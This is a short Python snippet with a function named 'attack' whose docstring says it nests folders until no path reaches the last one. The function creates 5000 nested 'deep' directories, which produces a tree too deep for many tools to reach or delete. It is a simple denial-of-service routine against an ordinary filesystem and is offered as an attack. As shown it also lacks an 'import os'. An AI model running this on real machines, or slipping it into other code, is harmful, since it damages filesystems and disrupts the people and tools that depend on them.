"""Puts folders into one another, until no path leads to the last."""


def attack():
    home = os.getcwd()
    for _ in range(5000):
        os.mkdir("deep")
        os.chdir("deep")
    os.chdir(home)
    return ()
